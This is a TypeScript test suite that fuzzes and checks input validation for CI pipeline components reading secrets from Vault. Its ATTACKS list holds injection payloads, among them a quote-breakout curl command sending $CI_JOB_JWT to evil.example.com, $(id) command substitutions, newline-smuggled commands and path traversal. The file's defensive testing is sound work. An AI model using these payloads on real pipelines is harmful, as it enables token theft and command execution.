import fc from "fast-check";
import { describe, expect, it } from "vitest";

import { COMPONENTS, GOOD, templateOf } from "./catalog.ts";
import { InputError, inputValues, splitComponent } from "./interpolate.ts";

/** What gets out of single quotes, of a string of `rules:if`, of a line, or into another input. */
const DANGEROUS = /['"`$\\;&|<>(){}*?!\u0000-\u0009\u000b-\u001f\u007f]|\$\[\[/;

const ATTACKS = [
  '\'; curl https://evil.example.com -d "$CI_JOB_JWT" #',
  '" == "" || "1" == "1',
  "$(id)",
  "`id`",
  "x\nid",
  "x\r\nid",
  "x\u0085id",
  "x\u2028id",
  "$CI_JOB_TOKEN",
  "${IFS}",
  "$[[ inputs.role ]]",
  "]] $[[ inputs.image",
  "x' --option",
  "-x",
  "../../sys/raw",
  "a/../../sys/raw#x",
  "x\\",
  "x\u0000",
  "*",
  "!reference [.x, script]",
  "latest",
  "https://vault.example.com:8200@evil.example.com",
  "https://vault.example.com/../x",
  "A=secret/x#y'\nid",
  "A=secret/x#y\n; id",
  "A=secret/../sys/x#y",
  "A=secret/x#$(id)",
  "PATH",
] as const;

describe.each(COMPONENTS)("%s", (name) => {
  const all = splitComponent(templateOf(name)).specs ?? {};
  const specs = Object.entries(all);
  const accepts = (input: string, value: string): boolean => {
    try {
      // One input at a time: the others are as good as ever.
      inputValues({ [input]: all[input] ?? null }, { [input]: value });
      return true;
    } catch (error) {
      if (error instanceof InputError) return false;
      throw error;
    }
  };

  it.each(specs.map(([input]) => input))("lets no attack through `%s`", (input) => {
    const good = GOOD[name]?.[input] ?? String(all[input]?.["default"] ?? "");
    for (const attack of ATTACKS)
      for (const value of [attack, `${good}${attack}`, `${attack}${good}`, `${good}\n${attack}`]) {
        if (!accepts(input, value)) continue;
        // Accepted is only what cannot do anything: the one variable of ours, names, and paths below a mount.
        expect(
          DANGEROUS.test(value.replace(/^\$CI_VAULT_AUDIENCE$/, "")),
          `${input}: ${JSON.stringify(value)}`,
        ).toBe(false);
        // An audience is only ever compared.
        if (input !== "audience") expect(value, input).not.toMatch(/(?:^|[/=])\.\.(?:\/|#|$)|^-|\s-/);
        if (input !== "secrets") expect(value, input).not.toContain("\n");
      }
  });

  it("and no text at all that has a character with a meaning", { timeout: 120_000 }, () => {
    const nasty = fc.oneof(
      fc.constantFrom(..."'\"`$\\;&|<>(){}[]*?!#\n\t\r \u0000\u0085\u2028=/:@.%~-".split("")),
      fc.string({ unit: "grapheme", maxLength: 3 }),
    );
    fc.assert(
      fc.property(fc.constantFrom(...specs), nasty, fc.nat(), ([input, spec], extra, at) => {
        const good = GOOD[name]?.[input] ?? String(spec?.["default"] ?? "");
        const cut = at % (good.length + 1);
        const value = good.slice(0, cut) + extra + good.slice(cut);
        if (!accepts(input, value)) return;
        expect(DANGEROUS.test(value.replace(/^\$CI_VAULT_AUDIENCE$/, ""))).toBe(false);
        expect(/[^\n -~]/.test(value), JSON.stringify(value)).toBe(false);
        if (input !== "secrets") expect(value).not.toContain("\n");
      }),
      { seed: 6, numRuns: 3000 },
    );
  });
});

describe("the list of secrets", () => {
  const { secrets: spec = null } = splitComponent(templateOf("vault-secrets")).specs ?? {};
  const take = (secrets: string) => () => inputValues({ secrets: spec }, { secrets });

  it.each([
    "A=secret/x#y",
    "A=secret/x#y B=secret/z#y",
    "\n  A=secret/x#y\n  B:file=secret/x/y/z#tls.key\n",
    "A:base64,optional=team/kv//x/y#a-b",
    "A:json=secret/x",
    "A:json,optional=secret/.well-known/x",
    "A=secret/a@b/c+d~e#f",
  ])("takes %j", (secrets) => {
    expect(take(secrets)).not.toThrow();
  });

  it.each([
    "",
    " ",
    "A",
    "A=",
    "A=secret",
    "A=secret#x",
    "A=secret/x",
    "A=secret/x#",
    "=secret/x#y",
    "1A=secret/x#y",
    "A:exec=secret/x#y",
    "A:json=secret/x#y",
    "A=/secret/x#y",
    "A=secret/x/#y",
    "A=a//b//c#d",
    "A=secret/x#y,B=secret/x#z",
  ])("refuses %j", (secrets) => {
    expect(take(secrets)).toThrow("`secrets` input: provided value does not match required RegEx pattern");
  });
});
